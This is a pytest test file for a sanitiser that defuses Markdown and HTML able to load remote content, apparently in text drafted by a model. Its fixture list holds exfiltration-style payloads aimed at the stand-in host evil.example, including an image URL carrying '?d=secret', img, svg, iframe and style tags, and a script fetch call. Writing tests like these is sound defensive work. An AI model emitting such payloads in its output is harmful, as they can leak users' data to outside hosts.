"""Text cells load nothing."""

from __future__ import annotations

import pytest

from gptoss_lab.drafts.harmless import LineByLine, harmless

LOADING = (
    "![a](https://evil.example/p.png?d=secret)",
    "![a][1]\n\n[1]: https://evil.example/p.png",
    "a ` b\n` ![x](https://evil.example/p.png) `",
    "    ```\n![x](https://evil.example/p.png)",
    "\\\\![x](https://evil.example/p.png)",
    "<img src=https://evil.example/p.png>",
    "<IMG/src=https://evil.example/p.png>",
    "<img\nsrc=https://evil.example/p.png>",
    "<a\thref='https://evil.example' style='background:url(https://evil.example)'>x</a>",
    "<svg><image href=https://evil.example/p.png></svg>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "<iframe src=https://evil.example></iframe>",
    "<script>fetch('https://evil.example')</script>",
)


@pytest.mark.parametrize("text", LOADING)
def test_what_would_load_is_text(text: str) -> None:
    """No image and no element with an address is left; what was meant can still be read."""
    safe = harmless(text)
    assert "![" not in safe
    assert "<img" not in safe.lower()
    assert not any(
        f"<{name}" in safe.lower() for name in ("svg", "image", "style", "iframe", "script", "a\t")
    )
    assert safe.replace("! [", "![").replace("< ", "<") == text


def test_other_text_stays() -> None:
    """Comparisons, addresses in angle brackets, plain tags and links are no danger."""
    text = "a < b, a<b>c</b>, <https://pandas.pydata.org>, `x[1]`, [docs](https://pandas.pydata.org), wow!"
    assert harmless(text) == text


def test_the_person_s_own_lines_stay() -> None:
    """What the cell held already is theirs."""
    own = "![logo](https://lab.example/logo.png)"
    assert harmless(f"{own}\n![b](c)", {own}) == f"{own}\n! [b](c)"


def test_pieces_make_the_same_text() -> None:
    """However the text is cut, the joined lines are harmless."""
    text = "\n".join(LOADING)
    for size in (1, 2, 7):
        lines = LineByLine()
        told = [lines.feed(text[at : at + size]) for at in range(0, len(text), size)]
        assert "".join([*told, lines.finish()]) == harmless(text)
